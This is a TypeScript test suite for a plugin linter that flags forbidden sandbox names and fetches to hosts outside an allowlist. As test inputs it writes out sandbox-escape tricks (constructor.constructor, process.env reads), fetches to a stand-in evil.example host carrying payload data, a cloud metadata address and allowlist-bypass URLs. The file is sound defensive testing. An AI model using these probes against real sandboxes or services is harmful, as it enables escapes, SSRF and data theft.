import * as fc from 'fast-check';
import type { PluginCapabilities } from '@sluice/contracts';
import { lintPlugin } from './lint-plugin';

const exported = 'exports.handler = async (payload) => ({});';
const rulesOf = (code: string, capabilities: PluginCapabilities = {}): string[] =>
  lintPlugin(code, capabilities).map(({ rule, line }) => `${line} ${rule}`);
/** Rules of a handler with this body; `exports.handler` stands on line 1, the body on line 2. */
const inHandler = (body: string, capabilities: PluginCapabilities = {}): string[] =>
  rulesOf(`exports.handler = async (payload) => {\n${body}\n};`, capabilities);

test('a finding names its rule, its line and the code around it', () => {
  const code = `${exported}\nconst a = 1;\nconst fs = require('fs');\n`;
  expect(lintPlugin(code, {})).toEqual([{
    rule: 'require', line: 3, excerpt: "const fs = require('fs');",
    message: "require 'fs' loads no module here: bundle everything into one file.",
  }]);
});

describe('exports', () => {
  test.each([
    exported, 'module.exports.handler = () => 1', 'exports["handler"] = () => 1', 'module.exports = { handler() {} }',
    'module.exports = { ...rest }; var rest = {}', 'Object.defineProperty(exports, "handler", { get: () => 1 })',
    '"use strict"; module.exports = toCommonJS(all); var all = {}; __export(all, { handler: () => handler });',
    '0 && (module.exports = { handler }); var handler = () => 1;', 'function make() { exports.handler = 1 } make();',
    '#!/usr/bin/env node\nexports.handler = 1',
  ])('finds the handler of %s', (code) => expect(rulesOf(code)).toEqual([]));

  test.each([
    '', 'const handler = () => 1', 'exports.other = () => 1', 'module.exports = {}', 'module.exports = { other: 1 }',
    'module.exports = () => 1', 'var x = { handler: 1 }', 'exports[handler] = 1; var handler;',
  ])('finds none in %s', (code) => expect(rulesOf(code)).toEqual(['1 handler']));

  test('an ES module is none, and broken code is told apart from it', () => {
    expect(rulesOf('const a = 1;\nexport const handler = async () => ({});')).toEqual(['2 commonjs']);
    expect(rulesOf("import a from 'a'; exports.handler = a;")).toEqual(['1 commonjs']);
    expect(lintPlugin('exports.handler = async (payload) => {\n  return payload..a;\n};', {})).toEqual([{
      rule: 'syntax', line: 2, message: 'The bundle is no JavaScript: Unexpected token.', excerpt: 'return payload..a;',
    }]);
  });
});

describe('names that the sandbox does not have', () => {
  test.each([
    ["require('net')", 'require'], ['require(payload.name)', 'require'], ["import('fs')", 'import'],
    ['return process.env', 'process'], ['const { exit } = process', 'process'], ["eval('1')", 'eval'], ['(0, eval)("1")', 'eval'],
    ['return Function("return this")()', 'eval'], ['new Function("return 1")', 'eval'],
    ['({}).constructor.constructor("return this")()', 'eval'], ['[]["constructor"]["constructor"]("x")', 'eval'],
    ['new WebSocket(payload.url)', 'socket'], ['new XMLHttpRequest()', 'socket'], ['new EventSource(payload.url)', 'socket'],
  ])('%s', (body, rule) => expect(inHandler(body)).toEqual([`2 ${rule}`]));

  test.each([
    "if (typeof process !== 'undefined') {}", "typeof require === 'function' && payload", 'payload instanceof Function',
    'return payload.process.env', 'return { process: 1, eval: 2, require: 3 }', 'const process = payload; return process.env',
    'const require = (name) => payload[name]; require("fs")', 'function eval_() {} eval_()', 'return payload.eval("x")',
    'for (const process of payload.all) process.run()', 'try {} catch (process) { process.message }',
    '{ let process = 1; process }', 'if (payload) { var process = 1 } return process',
    'return (function process() { return process })()',
    'const { a: process, ...WebSocket } = payload; return [process, WebSocket]',
    'return new (class WebSocket { x = WebSocket })()',
    'const f = ([process = 1]) => process', 'class WebSocket {} new WebSocket()', 'new this.constructor(payload)',
  ])('%s is harmless', (body) => expect(inHandler(body)).toEqual([]));

  test('a bundler\'s own require is its own', () => {
    expect(rulesOf(`(function (modules) { ${exported} })([function (require, module) { require('./other'); }])`)).toEqual([]);
    expect(rulesOf(`${exported} { let require = 1 } require('fs');`)).toEqual(['1 require']);
  });
});

describe('hosts', () => {
  const http = { http: ['api.shop.example', '*.cdn.example', 'erp.example:8443'] };
  test.each([
    "fetch('https://api.shop.example/orders')", 'fetch("http://a.cdn.example")',
    'fetch(`https://api.shop.example/${payload.id}`)',
    "fetch('https://' + 'api.shop.example/orders')", "fetch(payload.base + 'https://' + 'api.shop.example')",
    "fetch('https://erp.example:8443/x')", 'fetch(`https://${payload.host}/x`)', 'fetch(`https://api.${payload.zone}`)',
    "fetch(payload.scheme + '://' + payload.host)", "const a = 'https'; 'http://'", "'(see https://api.shop.example).'",
    "'https://api.shop.example, https://a.cdn.example'", 'fetch(`${payload.proxy}?url=https://${payload.host}/x`)',
    "fetch('HTTPS://API.SHOP.EXAMPLE/')", "fetch('https://user:pw@api.shop.example/')",
  ])('%s is covered, or unknown', (body) => expect(inHandler(body, http)).toEqual([]));

  test.each([
    "fetch('https://evil.example')", "fetch('https://shop.example')", "fetch('https://cdn.example')",
    "fetch('http://erp.example')",
    "fetch('https://api.shop.example.evil.example/')", 'fetch(`https://evil.example/${payload.id}`)',
    "fetch('https://' + 'evil.example')",
    "fetch('http://169.254.169.254/latest')", "fetch('https://api.shop.example@evil.example/')", "fetch('http://[::1]:80/')",
    "console.log('see https://docs.example.com')", "'https://api.shop.example/?next=https://evil.example/'",
    'fetch(`${payload.proxy}?url=https://evil.example/x`)', "if (false) { const unused = 'GET https://evil.example/'; }",
    "fetch('ftp://api.shop.example')", "'wss://api.shop.example'", "fetch('  https://evil.example')",
  ])('%s is not', (body) => expect(inHandler(body, http)).toEqual(['2 host']));

  test('nothing is covered without the capability', () => {
    expect(lintPlugin(`${exported} fetch('https://api.shop.example')`, {})).toMatchObject([
      { rule: 'host', message: 'The http capability does not cover api.shop.example.' },
    ]);
  });
});

test('an excerpt of a minified bundle is short', () => {
  const code = `${exported}${'a();'.repeat(10_000)}eval("1");${'b();'.repeat(10_000)}`;
  const [finding] = lintPlugin(code, {});
  expect(finding!.line).toBe(1);
  expect(finding!.excerpt.length).toBeLessThanOrEqual(120);
  expect(finding!.excerpt).toContain('eval("1")');
});

test('a bundle has 100 findings at most, and one that is nested too deep has one', () => {
  expect(lintPlugin(`${exported}\n${'eval(1);\n'.repeat(500)}`, {})).toHaveLength(100);
  expect(rulesOf(`${exported}${'['.repeat(100_000)}`)).toEqual(['1 too_complex']);
});

test('any text is read without an exception, and lines are within it', () => {
  const parts = fc.constantFrom(
    'exports', '.handler', '=', 'eval', '(', ')', '{', '}', 'https://x', '`', "'", '\n', '${', 'var ', '=>', '#', '/',
  );
  fc.assert(fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.array(parts).map((all) => all.join(''))), (code) => {
    for (const { line, message } of lintPlugin(code, {})) {
      expect(line).toBeLessThanOrEqual(code.split('\n').length);
      expect(message).not.toBe('');
    }
  }), { numRuns: 500 });
});
